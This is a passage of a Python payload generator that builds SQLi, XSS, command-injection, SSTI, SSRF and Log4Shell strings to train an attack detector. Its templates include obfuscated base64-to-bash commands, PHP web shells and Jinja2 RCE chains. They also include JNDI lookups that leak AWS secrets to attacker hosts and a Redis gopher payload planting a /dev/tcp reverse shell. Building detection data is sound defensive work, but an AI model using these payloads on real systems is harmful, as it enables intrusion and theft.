"""Attack payloads written from the grammar of each injection class, for training the attack model.

The public payload lists the training data comes from are dominated by a few sources, and a model
trained on them learns those lists' idioms: hold one source out and detection of its variants drops.
This module writes payloads from first principles instead. Each family is a small grammar (the
contexts an injection closes, the constructs it injects, the way it ends) with randomised inner
parts (tables, columns, commands, files, hosts, tags, handlers, numbers), plus the evasions
attackers layer on top (`evade`). `benign_lookalikes` gives the opposite: ordinary values that
share the characters and words of attacks (quotes, `<`, `&`, `select`, paths, URLs) but are not.

Public API: FAMILIES, generate(family, n, seed), generate_all(per_family, seed),
evade(value, rng, family=None) and benign_lookalikes(n, seed). Everything is deterministic for a
seed (each family has its own stream, seeded seed*1000 + its index, never hash()) and uses only
the standard library (plus normalize(), to drop values that decode to nothing scoreable).

Templates are strings with slots written `§name§`; a slot is a weighted choice of templates or a
function of the random generator. The templates and the vocabulary are data, one JSON file per
section in ``extproc_lab/data/payloads/`` (read by ``payload_data``); this module keeps the code.
`§name:key§` draws the slot once per payload and repeats it (`'§w:a§'='§w:a§'` is a tautology on
one random word).
"""
from __future__ import annotations

import base64
import bisect
import json
import random
import re
from typing import Callable, Iterable

from extproc.attack.normalize import normalize
from extproc_lab.attack import payload_data as _DATA

FAMILIES: tuple[str, ...] = (
    "sqli", "xss", "rce", "lfi", "ssti", "ssrf", "xxe", "nosqli", "ldapi", "crlf", "xpathi",
    "open-redirect", "prototype-pollution", "ssi",
)
EVADE_RATE = 0.4  # share of generated payloads passed through `evade`
MAX_CHARS = 4096  # the model scores values in windows of this size (ExtractSettings.max_value_chars)
# Values made only of these characters are never scored (mirror of extract.SAFE_VALUE): useless here.
SAFE_VALUE = re.compile(r"[A-Za-z0-9_.@-]{0,128}\Z")
_BENIGN_STREAM = 999  # seed offset of benign_lookalikes, apart from the families' 0..13


# ---------------------------------------------------------------------------------------------
# Grammar machinery
# ---------------------------------------------------------------------------------------------

class _Pick:
    """A weighted choice: entries are templates or (weight, template) pairs."""

    __slots__ = ("items", "cum", "total")

    def __init__(self, entries: Iterable) -> None:
        self.items, self.cum, total = [], [], 0.0
        for entry in entries:
            weight, item = entry if isinstance(entry, tuple) else (1.0, entry)
            total += weight
            self.items.append(item)
            self.cum.append(total)
        self.total = total

    def __call__(self, rng: random.Random):
        return self.items[bisect.bisect_right(self.cum, rng.random() * self.total)]


_G: dict[str, _Pick | Callable[[random.Random], str]] = {}
_SLOT = re.compile(r"§(\w+)(?::(\w+))?§")


def _def(name: str, entries) -> None:
    _G[name] = entries if callable(entries) and not isinstance(entries, (list, tuple)) else _Pick(entries)


def _fill(template: str, rng: random.Random, memo: dict | None = None) -> str:
    if "§" not in template:
        return template
    if memo is None:
        memo = {}

    def slot(match: re.Match) -> str:
        name, key = match.group(1), match.group(2)
        if key is None:
            return _expand(name, rng, memo)
        ref = name + ":" + key
        if ref not in memo:
            memo[ref] = _expand(name, rng, memo)
        return memo[ref]

    return _SLOT.sub(slot, template)


def _expand(name: str, rng: random.Random, memo: dict) -> str:
    rule = _G[name]
    if isinstance(rule, _Pick):
        return _fill(rule(rng), rng, memo)
    return rule(rng)


def _s(name: str, rng: random.Random) -> str:
    """One fresh draw of a slot."""
    return _expand(name, rng, {})


def _ri(lo: int, hi: int) -> Callable[[random.Random], str]:
    return lambda rng: str(rng.randint(lo, hi))


def _letters(rng: random.Random, lo: int = 3, hi: int = 8, alphabet: str = "abcdefghijklmnopqrstuvwxyz") -> str:
    return "".join(rng.choice(alphabet) for _ in range(rng.randint(lo, hi)))


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


# The template slots are data (extproc_lab/data/payloads/*.json); the slots below that compute
# their value (numbers, hosts, encodings) are code.
for _name, _entries in _DATA.slots().items():
    _def(_name, _entries)


# ---------------------------------------------------------------------------------------------
# Shared vocabulary
# ---------------------------------------------------------------------------------------------

_WORDS = _DATA.words("shared-vocabulary", "words")
_NOUNS = _DATA.words("shared-vocabulary", "nouns")
_TABLES = _DATA.words("shared-vocabulary", "tables")
_COLUMNS = _DATA.words("shared-vocabulary", "columns")
_TLDS = _DATA.words("shared-vocabulary", "tlds")
_EVIL = _DATA.words("shared-vocabulary", "evil")
_OOB = _DATA.words("shared-vocabulary", "oob")
_COMPANIES = _DATA.words("shared-vocabulary", "companies")
_SUBDOMAINS = _DATA.words("shared-vocabulary", "subdomains")
_PUBLIC_FIRST_OCTETS = _DATA.words("shared-vocabulary", "public_first_octets")
_PORTS = _DATA.words("shared-vocabulary", "ports")


def _word(rng: random.Random) -> str:
    r = rng.random()
    if r < 0.4:
        return rng.choice(_WORDS)
    if r < 0.7:
        return rng.choice(_NOUNS)
    return _letters(rng)


def _pub_ip(rng: random.Random) -> str:
    return f"{rng.choice(_PUBLIC_FIRST_OCTETS)}.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"


def _evil_domain(rng: random.Random) -> str:
    r = rng.random()
    name = rng.choice(_EVIL)
    if rng.random() < 0.3:
        name += str(rng.randint(1, 999))
    if r < 0.5:
        domain = f"{name}.{rng.choice(_TLDS)}"
    elif r < 0.75:
        domain = f"{rng.choice(_WORDS + _NOUNS)}{rng.choice(('', '-'))}{name}.{rng.choice(_TLDS)}"
    else:
        domain = f"{_letters(rng, 4, 10)}.{rng.choice(_TLDS)}"
    if rng.random() < 0.2:
        domain = f"{rng.choice(_SUBDOMAINS + ('cdn', 'x', 'static', 'files'))}.{domain}"
    return domain


def _host(rng: random.Random) -> str:
    """An attacker-controlled host: domain, out-of-band collector or public IP."""
    r = rng.random()
    if r < 0.5:
        return _evil_domain(rng)
    if r < 0.78:
        return f"{_letters(rng, 6, 20, 'abcdefghijklmnopqrstuvwxyz0123456789')}.{rng.choice(_OOB)}"
    return _pub_ip(rng)


def _trusted(rng: random.Random) -> str:
    domain = f"{rng.choice(_COMPANIES)}.{rng.choice(('com', 'com', 'org', 'net', 'io', 'co.uk', 'de', 'es'))}"
    return f"{rng.choice(_SUBDOMAINS)}.{domain}" if rng.random() < 0.5 else domain


def _ip_form(rng: random.Random, octets: tuple[int, int, int, int], weird: float = 0.6) -> str:
    """One of the many spellings of an IPv4 address that URL parsers and resolvers accept."""
    a, b, c, d = octets
    n = (a << 24) | (b << 16) | (c << 8) | d
    if rng.random() > weird:
        return f"{a}.{b}.{c}.{d}"
    form = rng.randrange(15)
    if form == 0:
        return str(n)
    if form == 1:
        return ("0x%08x" if rng.random() < 0.6 else "0x%08X") % n
    if form == 2:
        return ".".join("0x%02x" % o for o in octets)
    if form == 3:
        return ".".join(("0%o" % o) if o else "0" for o in octets)
    if form == 4:
        parts = []
        for o in octets:
            k = rng.randrange(3)
            parts.append(str(o) if k == 0 else ("0x%x" % o) if k == 1 else ("0%o" % o if o else "00"))
        return ".".join(parts)
    if form == 5:
        return f"{a}.{b}.{(c << 8) | d}"
    if form == 6:
        return f"{a}.{(b << 16) | (c << 8) | d}"
    if form == 7:
        return f"[::ffff:{a}.{b}.{c}.{d}]"
    if form == 8:
        return f"[::ffff:{(a << 8) | b:x}:{(c << 8) | d:x}]"
    if form == 9:
        return f"[0:0:0:0:0:ffff:{a}.{b}.{c}.{d}]"
    if form == 10:  # enclosed alphanumerics: NFKC folds them to ASCII digits
        circled = {"0": "\u24ea", **{str(i): chr(0x2460 + i - 1) for i in range(1, 10)}}
        return "".join(circled.get(ch, ch) for ch in f"{a}.{b}.{c}.{d}")
    if form == 11:  # fullwidth digits and full stop
        return "".join(chr(ord(ch) + 0xFEE0) for ch in f"{a}.{b}.{c}.{d}")
    if form == 12:
        return f"{a}.{b}.{c}.{d}.nip.io" if rng.random() < 0.5 else f"{a}-{b}-{c}-{d}.sslip.io"
    if form == 13:
        return "%03d.%03d.%03d.%03d" % octets
    return ".".join("0" * rng.randint(1, 4) + "%o" % o for o in octets)


def _unix_abs(rng: random.Random) -> str:
    return "/" + _s("unix_file", rng)


# Generic slots shared by several families.
_def("w", _word)
_def("W", lambda rng: _word(rng).upper() if rng.random() < 0.5 else _word(rng).capitalize())
_def("rand", lambda rng: _letters(rng, 4, 12, "abcdefghijklmnopqrstuvwxyz0123456789"))
_def("n", _ri(1, 9))
_def("nn", _ri(10, 99))
_def("N", lambda rng: str(rng.choice((rng.randint(100, 999), rng.randint(1000, 99999), rng.randint(1, 50)))))
_def("big", lambda rng: str(rng.choice((9999999, 99999999, 1000000, 5000000, 10000000, 50000000))))
_def("host", _host)
_def("unix_abs", _unix_abs)
_def("evil", _evil_domain)
_def("ip", _pub_ip)
_def("port", lambda rng: rng.choice(_PORTS) if rng.random() < 0.8 else str(rng.randint(1025, 65535)))
_def("trusted", _trusted)
_def("table", lambda rng: rng.choice(_TABLES))
_def("col", lambda rng: rng.choice(_COLUMNS))
_def("letter", lambda rng: rng.choice("abcdefghijklmnopqrstuvwxyz0123456789"))
_def("pid", _ri(1, 4000))


# ---------------------------------------------------------------------------------------------
# Operating-system commands (shared by rce, ssti, ssi, sqli's xp_cmdshell, ...)
# ---------------------------------------------------------------------------------------------

_def("b64cmd", lambda rng: _b64(_s("ucmd_simple", rng)))
_def("win_file_bs", lambda rng: _s("win_file", rng).replace("/", "\\"))
_PS_COMMANDS = _DATA.words("operating-system-commands", "ps_commands")


def _ps_b64(rng: random.Random) -> str:
    command = rng.choice(_PS_COMMANDS).format(h=_host(rng), w=_word(rng), ip=_pub_ip(rng), p=rng.randint(2, 9999))
    return base64.b64encode(command.encode("utf-16-le")).decode()


_def("ps_b64", _ps_b64)


def _quote_safe(slot: str, forbidden: str) -> Callable[[random.Random], str]:
    """A draw of `slot` that can sit inside a string quoted with `forbidden` characters."""
    def draw(rng: random.Random) -> str:
        for _ in range(8):
            value = _s(slot, rng)
            if not any(ch in value for ch in forbidden):
                return value
        return rng.choice(("id", "whoami", "uname -a", "ls", "hostname"))
    return draw


_def("cmdq", _quote_safe("ucmd", "'"))        # inside '...'
_def("cmdqq", _quote_safe("ucmd", '"$`\\'))   # inside "..." (no expansions either)
_def("cmdbt", _quote_safe("ucmd", "`"))        # inside `...`


# ---------------------------------------------------------------------------------------------
# SQL injection
# ---------------------------------------------------------------------------------------------



def _sq_truth(rng: random.Random, true: bool = True) -> str:
    a, b = rng.randint(0, 99), rng.randint(1, 99)
    w, w2 = _word(rng), _letters(rng, 1, 6)
    k = rng.randrange(24)
    if true:
        forms = (f"{a}={a}", f"{a + b}-{b}={a}", f"{a}*{b}={a * b}", f"{a + b}>{a}", f"{a}<{a + b}", f"{a}<>{a + b}",
                 f"{a}!={a + b}", f"{a} between {max(a - 1, 0)} and {a + b}", f"{a} in ({b},{a})", f"'{w}'='{w}'",
                 f"'{w}' like '{w[0]}%'", f"'{w}'<>'{w}{w2}'", f"not {a}={a + 1}", f"{a} is not null", "true",
                 "not false", str(b), f"ascii('{w[0]}')={ord(w[0])}", f"length('{w}')={len(w)}",
                 f"0x{b:x}={b}", f"{a} rlike {a}", f"'{w}' regexp '^{w[0]}'", f"({a})=({a})", f"{a}^0={a}")
    else:
        forms = (f"{a}={a + b}", f"{a + b}-{b}={a + 1}", f"{a}*{b}={a * b + 1}", f"{a}>{a + b}", f"{a + b}<{a}",
                 f"'{w}'='{w}{w2}'", f"{a}<>{a}", "false", "not true", f"{a} is null", f"'{w}' like '{w2}{w}'",
                 f"{a} in ({a + b},{a + 2 * b})", f"length('{w}')={len(w) + b}", f"{a}={a}-{b}", "0",
                 f"{a} between {a + 1} and {a + b}", f"'{w}'<'{w}'", f"ascii('{w[0]}')={ord(w[0]) + b}",
                 f"0x{b:x}={b + 1}", f"{a}!={a}", f"({a})=({a + b})", f"{a} rlike {a + b}", f"{a}^{b}={a}",
                 f"'{w}' regexp '^{w2}{w}'")
    return forms[k]


_def("sq_true", _sq_truth)
_def("sq_false", lambda rng: _sq_truth(rng, False))


def _ucols(rng: random.Random) -> str:
    k = rng.choices(range(1, 13), weights=(6, 8, 10, 10, 8, 7, 5, 4, 3, 2, 2, 1))[0]
    style = rng.randrange(5)
    cols = []
    for i in range(k):
        if style == 0:
            cols.append("null")
        elif style == 1:
            cols.append(str(i + 1))
        elif style == 2:
            cols.append(rng.choice(("null", str(i + 1))))
        elif style == 3:
            cols.append(str(rng.randint(1, 9999)))
        else:
            cols.append(rng.choice(("'a'", f"'{_word(rng)}'", "null", "0x41", str(i + 1), "char(65)")))
    for _ in range(rng.choice((0, 1, 1, 1, 2)) if k > 1 else rng.choice((0, 1))):
        cols[rng.randrange(k)] = _s("sq_info", rng)
    return ",".join(cols)


_def("ucols", _ucols)
_def("hexword", lambda rng: _word(rng).encode().hex())
_def("charlist", lambda rng: ",".join(str(ord(c)) for c in _word(rng)))
_def("hexcmd", lambda rng: ("exec master..xp_cmdshell '" + _s("wcmd_simple", rng) + "'").encode().hex())
_def("byte", _ri(32, 126))
_def("hex2", lambda rng: "%02x" % rng.randint(32, 126))
_def("nn_small", _ri(1, 30))
_def("collist", lambda rng: ",".join(rng.sample(_COLUMNS, rng.randint(1, 4))))
_def("md5", lambda rng: "%032x" % rng.getrandbits(128))


# ---------------------------------------------------------------------------------------------
# Cross-site scripting
# ---------------------------------------------------------------------------------------------

_def("charcodes", lambda rng: ",".join(str(ord(c)) for c in rng.choice(("XSS", "xss", _word(rng), "1", "hacked"))))


def _js_split(word: str, rng: random.Random) -> str:
    cut = rng.randint(1, len(word) - 1)
    return f"'{word[:cut]}'+'{word[cut:]}'"


_def("jfsplit", lambda rng: _js_split(_s("jfq", rng), rng))
_def("b64jf", lambda rng: _b64(_s("jfq", rng)))
_def("b64js", lambda rng: _b64(_s("js_plain", rng)))
_def("jscodes", lambda rng: ",".join(str(ord(c)) for c in _s("js_plain", rng)))


def _attr(value: str, rng: random.Random) -> str:
    """`value` as an HTML attribute value: unquoted when it can be, else quoted with what it lacks."""
    options = []
    if not any(ch in value for ch in " \t\n>\"'`="):
        options += ["", "", ""]
    if '"' not in value:
        options += ['"', '"']
    if "'" not in value:
        options.append("'")
    if not options:
        return '"' + value.replace('"', "&quot;") + '"'
    quote = rng.choice(options)
    return quote + value + quote


_def("ajs", lambda rng: _attr(_s("js", rng), rng))
_def("b64html", lambda rng: _b64(_fill(rng.choice(("<script>§js_plain§</script>", "<svg onload=§js_plain§>",
                                                    "<img src=x onerror=§js_plain§>")), rng)))


def _attr_break(rng: random.Random) -> str:
    quote = rng.choice(('"', '"', "'", ""))
    js = _s("js", rng)
    if quote and quote in js:
        quote = "'" if quote == '"' else '"'
        if quote in js:
            quote = ""
    sep = rng.choice((" ", " ", " ", "/", "\n", "\t"))
    q = quote
    templates = (
        f"{q}{sep}{_s('ev_mouse', rng)}={q}{js}", f"{q}{sep}autofocus onfocus={q}{js}",
        f"{q}{sep}onfocus={q}{js}{q} autofocus={q}", f"{q}{sep}style={q}animation-name:{_word(rng)}{q} onanimationstart={q}{js}",
        f"{q}{sep}accesskey={q}x{q} onclick={q}{js}", f"{q}{sep}src=x onerror={q}{js}",
        f"{q}{sep}{_s('ev_mouse', rng)}={q}{js}{q} x={q}", f"{q}{sep}onpointerover={q}{js}",
        f"{q}{sep}tabindex=1 onfocus={q}{js}{q} autofocus {q}", f"{q}{sep}onload={q}{js}",
        f"{_word(rng)}{q}{sep}{_s('ev_mouse', rng)}={q}{js}", f"{q}{sep}href={q}javascript:{js}",
        f"{q}{sep}formaction={q}javascript:{js}", f"{q}{sep}onerror={q}{js}{q} src={q}x")
    return rng.choice(templates)


_def("x_attrbreak", _attr_break)


def _polyglot(rng: random.Random) -> str:
    starts = ("javascript:/*", "'\"", "\"'", "';", "\";", "-->", "*/", "jaVasCript:", "'\"`", "\"'`--></",
              "</script>'\"", "javascript://'/</title></style></textarea></script>--><p\" onclick=" + _s("js", rng) + "//>*/")
    breakers = ("</title>", "</style>", "</textarea>", "</script>", "</noscript>", "</xmp>", "-->", "]]>", "*/",
                "'", "\"", "`", "</template>", "</iframe>", "--!>", "</select>")
    ends = ("", "//", "<!--", "//-->", "*/", "\\", "'", "\"")
    parts = [rng.choice(starts)]
    parts += rng.sample(breakers, rng.randint(2, 6))
    parts.append(_s("x_vec", rng))
    parts.append(rng.choice(ends))
    return "".join(parts)


_def("x_poly", _polyglot)


# ---------------------------------------------------------------------------------------------
# OS command and code injection
# ---------------------------------------------------------------------------------------------



def _split_insert(word: str, rng: random.Random) -> str:
    if len(word) < 2:
        return word
    i = rng.randint(1, len(word) - 1)
    mode = rng.randrange(8)
    if mode == 0:
        j = min(len(word), i + 1)
        return f"{word[:i]}'{word[i:j]}'{word[j:]}"
    if mode == 1:
        return f'{word[:i]}"{word[i:]}"' if rng.random() < 0.5 else f'{word[:i]}""{word[i:]}'
    if mode == 2:
        return word[:i] + "\\" + word[i:]
    if mode == 3:
        return word[:i] + "$@" + word[i:]
    if mode == 4:
        return word[:i] + "$()" + word[i:]
    if mode == 5:
        return word[:i] + "${" + _letters(rng, 1, 3) + "}" + word[i:]
    if mode == 6:
        return word[:i] + "''" + word[i:]
    return "".join(ch + ("\\" if rng.random() < 0.4 and k < len(word) - 1 else "") for k, ch in enumerate(word))


def _glob_path(path: str, rng: random.Random) -> str:
    out = []
    for ch in path:
        if ch.isalpha() and rng.random() < 0.45:
            out.append("?")
        else:
            out.append(ch)
    text = "".join(out)
    if rng.random() < 0.3:
        text = re.sub(r"/([a-z])([a-z]+)", lambda m: f"/{m[1]}[{m[2][0]}]{m[2][1:]}", path)
    return text


def _shell_obfuscate(rng: random.Random) -> str:
    cmd = _s("obf_cmd", rng)
    head, _, rest = cmd.partition(" ")
    mode = rng.randrange(14)
    if mode == 0:
        sp = rng.choice(("${IFS}", "$IFS$9", "${IFS%??}", "$IFS", "%09", "\t", "${IFS}"))
        out = cmd.replace(" ", sp)
    elif mode == 1 and rest and not any(c in cmd for c in "|;&>'\"$"):
        out = "{" + ",".join(cmd.split(" ")) + "}"
    elif mode == 2 and head in ("cat", "head", "nl", "more", "less") and rest:
        out = f"{head}<{rest}"
    elif mode == 3:
        out = " ".join([_split_insert(head, rng)] + ([rest] if rest else []))
    elif mode == 4 and "/" in rest:
        out = f"{head} " + re.sub(r"/[\w./-]+", lambda m: _glob_path(m[0], rng), rest)
    elif mode == 5:
        b = _b64(cmd)
        out = rng.choice((f"echo {b}|base64 -d|sh", f"bash<<<$(base64 -d<<<{b})", f"{{echo,{b}}}|{{base64,-d}}|{{bash,-i}}",
                          f"echo${{IFS}}{b}|base64${{IFS}}-d|bash", f"sh -c \"$(echo {b}|base64 --decode)\""))
    elif mode == 6:
        out = "$(printf '" + "".join("\\x%02x" % ord(c) for c in head) + "')" + (" " + rest if rest else "")
    elif mode == 7:
        out = "$'" + "".join("\\x%02x" % ord(c) for c in head) + "'" + (" " + rest if rest else "")
    elif mode == 8:
        out = "$(rev<<<'" + head[::-1] + "')" + (" " + rest if rest else "")
    elif mode == 9 and len(head) > 1:
        cut = rng.randint(1, len(head) - 1)
        a, b = _letters(rng, 1, 2), _letters(rng, 1, 2)
        if a == b:
            b += "x"
        out = f"{a}={head[:cut]};{b}={head[cut:]};${a}${b}" + (" " + rest if rest else "")
    elif mode == 10 and "/" in cmd:
        var = rng.choice(("${HOME:0:1}", "${PATH:0:1}", "${PWD:0:1}", "$(echo /)"))
        out = head + " " + rest.replace("/", var) if rest else cmd
    elif mode == 11:
        prefix = rng.choice(("/bin/", "/usr/bin/", "/???/", "/b??/", "/usr/b?n/"))
        out = prefix + head.replace(head[len(head) // 2], "?", 1) + (" " + rest if rest else "")
    elif mode == 12:
        out = "$(echo -e '" + "".join("\\x%02x" % ord(c) for c in cmd) + "')"
    else:
        out = " ".join(_split_insert(part, rng) if part.isalpha() else part for part in cmd.split(" "))
    return _s("r_pre", rng) + _s("r_sep", rng) + out + _s("r_tail", rng)


_def("r_obf", _shell_obfuscate)
_def("b64php", lambda rng: _b64(_fill(rng.choice(("system('§cmdq§');", "phpinfo();", "echo shell_exec('§cmdq§');",
                                                   "@eval($_POST['§param§']);")), rng)))
_def("b64py", lambda rng: _b64(f"import os;os.system('{_s('cmdq', rng)}')"))


def _jndi(rng: random.Random) -> str:
    def obf(text: str) -> str:
        out = []
        for ch in text:
            r = rng.random()
            if r < 0.55 or not ch.isalpha():
                out.append(ch)
            elif r < 0.7:
                out.append("${::-" + ch + "}")
            elif r < 0.8:
                out.append("${lower:" + ch + "}")
            elif r < 0.87:
                out.append("${upper:" + ch + "}")
            elif r < 0.94:
                out.append("${env:" + _letters(rng, 2, 6).upper() + ":-" + ch + "}")
            else:
                out.append("${date:'" + ch + "'}")
        return "".join(out)

    proto = rng.choice(("ldap", "ldap", "ldap", "rmi", "dns", "ldaps", "iiop", "nis", "nds", "corba", "http"))
    target = rng.choice((_host(rng), f"{_host(rng)}:{_s('port', rng)}", f"{_pub_ip(rng)}:{_s('port', rng)}"))
    leak = rng.choice(("", "", "", "${env:USER}.", "${sys:java.version}.", "${hostName}.", "${env:AWS_SECRET_ACCESS_KEY}.",
                       "${java:version}.", "${sys:user.name}."))
    jndi = obf("jndi") if rng.random() < 0.4 else "jndi"
    prot = obf(proto) if rng.random() < 0.3 else proto
    colon = rng.choice((":", ":", ":", "${::-:}"))
    path = rng.choice(("a", _word(rng), _letters(rng, 4, 10), "Exploit", "o=reference", "x", "${env:HOSTNAME}"))
    return "${" + jndi + colon + prot + "://" + leak + target + "/" + path + "}"


_def("r_jndi", _jndi)


# ---------------------------------------------------------------------------------------------
# Local file inclusion / path traversal
# ---------------------------------------------------------------------------------------------

_TRAVERSAL = _Pick(_DATA.entries("local-file-inclusion-path-traversal", "traversal"))


def _traverse(rng: random.Random) -> str:
    kind = rng.choices(("unix", "win", "app"), weights=(62, 20, 18))[0]
    depth = rng.choices(range(1, 16), weights=(4, 6, 8, 10, 10, 10, 9, 8, 7, 5, 4, 3, 2, 2, 2))[0]
    if kind == "app":
        depth = min(depth, rng.randint(1, 5))
    mixed = rng.random() < 0.12
    step = _TRAVERSAL(rng)
    steps = "".join(_TRAVERSAL(rng) if mixed else step for _ in range(depth))
    target = _s(kind + "_file", rng)
    backslashes = "\\" in step and "/" not in step
    if kind == "win" and (backslashes or rng.random() < 0.4):
        target = target.replace("/", "\\")
    elif "%2f" in step.lower() and rng.random() < 0.5:
        target = target.replace("/", step[-3:] if step.lower().endswith("%2f") else "/")
    lead = rng.random()
    if lead < 0.15:
        steps = "/" + steps
    elif lead < 0.22:
        steps = "./" + steps
    elif lead < 0.36:
        steps = _s("legit_dir", rng).rstrip("/") + "/" + steps
    elif lead < 0.42:
        steps = _s("w", rng) + "." + _s("imgext", rng) + "/" + steps
    out = steps + target
    if rng.random() < 0.18:
        out += _s("null_suffix", rng)
    return out


_def("l_trav", _traverse)
_def("b64phpshell", lambda rng: _b64(_s("phpshell", rng)))


# ---------------------------------------------------------------------------------------------
# Server-side template injection
# ---------------------------------------------------------------------------------------------

_def("mul", lambda rng: f"{rng.randint(2, 99)}*{rng.randint(2, 99)}")
_def("ssti_probe", [(6, "{{§mul§}}"), (4, "${§mul§}"), (2, "#{§mul§}"), (2, "<%= §mul§ %>"), (1, "@(§mul§)"),
                    (1, "*{§mul§}"), (1, "${{§mul§}}"), (1, "{{=§mul§}}"), (1, "[[${§mul§}]]"), (1, "{§mul§}"),
                    (1, "{{'§n§'*§n§}}"), (1, "{{ §mul§ }}"), (1, "%{§mul§}"), (1, "[=§mul§]"), (1, "{%print(§mul§)%}"),
                    (1, "{php}echo §mul§;{/php}"), (1, "$" + "{{§mul§}}"), (1, "#set($x=§mul§)${x}")])


def _jinja_access(name: str, rng: random.Random) -> str:
    """One attribute step of a Jinja2 chain, in one of the spellings that get past naive filters."""
    r = rng.random()
    if r < 0.55:
        return "." + name
    if r < 0.72:
        return "['" + name + "']"
    if r < 0.82:
        return "|attr('" + name + "')"
    hexed = "".join("\\x%02x" % ord(c) if c == "_" else c for c in name)
    if r < 0.92:
        return "['" + hexed + "']"
    return "|attr('" + hexed + "')"


def _jinja_rce(rng: random.Random) -> str:
    cmd = _s("cmdq", rng)
    start = rng.choice(("cycler", "joiner", "namespace", "lipsum", "url_for", "get_flashed_messages", "config",
                        "request.application", "self._TemplateReference__context.cycler", "''", "()", "[]", "{}",
                        "request", "g", "range"))
    a = lambda n: _jinja_access(n, rng)  # noqa: E731
    if start in ("''", "()", "[]", "{}"):
        base = start + a("__class__") + rng.choice((a("__mro__") + f"[{rng.choice((1, 1, 2, -1))}]", a("__base__"), a("__bases__") + "[0]"))
        subs = base + a("__subclasses__") + "()"
        tail = rng.randrange(4)
        if tail == 0:
            return subs
        if tail == 1:
            return subs + f"[{rng.randint(40, 450)}]('{cmd}',shell=True,stdout=-1).communicate()"
        if tail == 2:
            return subs + f"[{rng.randint(40, 450)}]" + a("__init__") + a("__globals__") + f"['sys'].modules['os'].popen('{cmd}').read()"
        return subs + f"[{rng.randint(40, 450)}]" + a("__init__") + a("__globals__") + "['__builtins__']['open']('/" + _s("unix_file", rng) + "').read()"
    if start in ("lipsum", "url_for", "get_flashed_messages", "request.application"):
        glob = start + a("__globals__")
    elif start == "config":
        glob = start + a("__class__") + a("__init__") + a("__globals__")
    elif start in ("request", "g", "range"):
        glob = start + a("__class__") + a("__init__") + a("__globals__") if start != "range" else "lipsum" + a("__globals__")
    else:
        glob = start + a("__init__") + a("__globals__")
    end = rng.randrange(5)
    if end == 0:
        return glob + rng.choice((".os", "['os']")) + f".popen('{cmd}').read()"
    if end == 1:
        return glob + "['__builtins__']['__import__']('os').popen('" + cmd + "').read()"
    if end == 2:
        return glob + "['__builtins__']['eval'](\"__import__('os').popen('" + cmd + "').read()\")"
    if end == 3:
        return glob + "['__builtins__']['open']('/" + _s("unix_file", rng) + "').read()"
    return glob + ".os.system('" + cmd + "')"


def _jinja(rng: random.Random) -> str:
    r = rng.random()
    if r < 0.12:
        return _fill(rng.choice((
            "{{config}}", "{{config.items()}}", "{{self.__dict__}}", "{{request.environ}}", "{{settings.SECRET_KEY}}",
            "{{ config['SECRET_KEY'] }}", "{{get_flashed_messages.__globals__}}", "{{request}}", "{{self}}",
            "{{url_for.__globals__.current_app.config}}", "{{[].__class__}}", "{{''.__class__.__mro__}}",
            "{{request.application.__self__._get_data_for_json.__globals__['json'].JSONEncoder.default.__globals__['current_app'].config}}",
            "{% debug %}", "{{ g.pop.__globals__.__builtins__ }}", "{{ namespace.__init__.__globals__ }}",
            "{{ cycler.__init__.__globals__ }}", "{{ self._TemplateReference__context }}", "{{ request.args.§w§ }}",
            "{{ config.from_pyfile('/§unix_file§') }}", "{{ lipsum.__globals__ }}")), rng)
    expr = _jinja_rce(rng)
    if r < 0.85:
        return rng.choice(("{{" + expr + "}}", "{{ " + expr + " }}", "{%print(" + expr + ")%}", "{% print " + expr + " %}",
                           "{% set " + _word(rng) + " = " + expr + " %}", "{% if " + expr + " %}{% endif %}",
                           "{{" + expr + "|safe}}", "{{ " + expr + "|string }}"))
    cls = rng.choice(("catch_warnings", "Popen", "_wrap_close", "WarningMessage", "FileLoader", "BuiltinImporter"))
    var = rng.choice(("c", "x", "cls", "i", _letters(rng, 1, 4)))
    return ("{% for " + var + " in ().__class__.__base__.__subclasses__() %}{% if '" + cls + "' in " + var + ".__name__ %}"
            "{{ " + var + "()._module.__builtins__['__import__']('os').popen('" + _s("cmdq", rng) + "').read() }}"
            "{% endif %}{% endfor %}")


_def("ssti_jinja", _jinja)


def _ssti_fuzz(rng: random.Random) -> str:
    pieces = ("{{", "}}", "${", "<%", "%>", "[%", "%]", "#{", "'", "\"", "\\", "%", "}", ")", "{", "*{", "@(", "{%", "%}", "`", "$")
    return "".join(rng.choice(pieces) for _ in range(rng.randint(5, 12)))


def _ssti_multi(rng: random.Random) -> str:
    probes = [_s("ssti_probe", rng) for _ in range(rng.randint(2, 5))]
    return rng.choice(("", " ", "|", "\n", "-")).join(probes)


_def("ssti_fuzz", _ssti_fuzz)
_def("ssti_multi", _ssti_multi)


# ---------------------------------------------------------------------------------------------
# Server-side request forgery
# ---------------------------------------------------------------------------------------------

_def("meta_ip", lambda rng: _ip_form(rng, (169, 254, 169, 254)))
_def("lo_ip", lambda rng: _ip_form(rng, (127, 0, 0, 1), weird=0.5))
_def("uuid", lambda rng: "%08x-%04x-%04x-%04x-%012x" % (rng.getrandbits(32), rng.getrandbits(16), rng.getrandbits(16),
                                                        rng.getrandbits(16), rng.getrandbits(48)))
_def("b", _ri(0, 255))
_def("pvt172", _ri(16, 31))


def _gopher_escape(text: str) -> str:
    return "".join(ch if ch.isalnum() or ch in "/.-_*:@<>=" else "%%%02x" % ord(ch) for ch in text)


def _resp(parts: list[str]) -> str:
    """A Redis RESP command, URL-encoded as it travels inside a gopher:// URL."""
    out = [f"*{len(parts)}%0d%0a"]
    for part in parts:
        out.append(f"${len(part.encode())}%0d%0a{_gopher_escape(part)}%0d%0a")
    return "".join(out)


def _redis_gopher(rng: random.Random) -> str:
    host = _s("lo_any", rng)
    dirs, content = rng.choice((
        (("/var/www/html", "/var/www", "/usr/share/nginx/html"), "<?php system($_GET['" + _s("param", rng) + "']);?>"),
        (("/var/spool/cron", "/var/spool/cron/crontabs", "/etc/cron.d"),
         f"\n\n*/1 * * * * bash -i >& /dev/tcp/{_pub_ip(rng)}/{_s('port', rng)} 0>&1\n\n"),
        (("/root/.ssh", "/home/redis/.ssh", "/var/lib/redis/.ssh"), f"\n\nssh-rsa AAAAB3NzaC1yc2E{_letters(rng, 20, 40)} x@y\n\n")))
    directory = rng.choice(dirs)
    filename = {"/root/.ssh": "authorized_keys"}.get(directory, rng.choice(("shell.php", _word(rng) + ".php", "root", "x")))
    if "ssh" in directory:
        filename = "authorized_keys"
    key = _word(rng)
    encoded = _gopher_escape(content)
    if rng.random() < 0.6:
